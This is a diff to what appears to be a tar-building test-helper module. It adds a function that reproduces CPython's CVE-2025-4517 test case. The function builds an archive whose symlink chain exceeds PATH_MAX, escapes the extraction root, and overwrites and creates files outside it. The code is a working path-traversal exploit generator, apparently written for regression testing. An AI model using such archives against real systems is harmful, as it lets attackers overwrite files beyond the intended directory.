@@ -47,7 +47,15 @@ from collections.abc import Iterable, Mapping
 from dataclasses import dataclass, fields, replace
 from typing import Literal
 
-__all__ = ["Header", "TarBuilder", "compress", "describe_tree", "encode_header", "pax_record"]
+__all__ = [
+    "Header",
+    "TarBuilder",
+    "compress",
+    "describe_tree",
+    "encode_header",
+    "pax_record",
+    "realpath_limit_attack",
+]
 
 BLOCK_SIZE = 512
 
@@ -417,3 +425,25 @@ def describe_tree(
             rel = os.path.relpath(full, base)
             out[rel] = _describe(full, os.lstat(full), mtime=mtime, xattrs=xattrs)
     return dict(sorted(out.items()))
+
+
+def realpath_limit_attack(path_max: int, root_len: int) -> bytes:
+    """CPython's test_realpath_limit_attack (CVE-2025-4517), sized for a layer root whose path
+    is ``root_len`` bytes on a filesystem with ``path_max`` (``PC_PATH_MAX``): a chain of
+    symlinks whose resolved length passes PATH_MAX, through which ``escape`` points two levels
+    above the root, then a hard link and files aimed at ``escape/victim/hello``."""
+    steps = "abcdefghijklmnop"
+    component = "d" * ((path_max - root_len - 1) // (len(steps) + 1))
+    b = TarBuilder()
+    path = ""
+    for step in steps:
+        b.dir(os.path.join(path, component), mode=0o777)
+        b.symlink(os.path.join(path, step), component)
+        path = os.path.join(path, component)
+    linkpath = os.path.join(*steps, "l" * 254)
+    b.symlink(linkpath, os.path.join(*[".."] * len(steps)))
+    b.symlink("escape", os.path.join(linkpath, ".."))
+    b.hardlink("flaglink", "escape/victim/hello")
+    b.file("flaglink", b"overwrite")
+    b.file("escape/newfile", b"new")
+    return b.build()
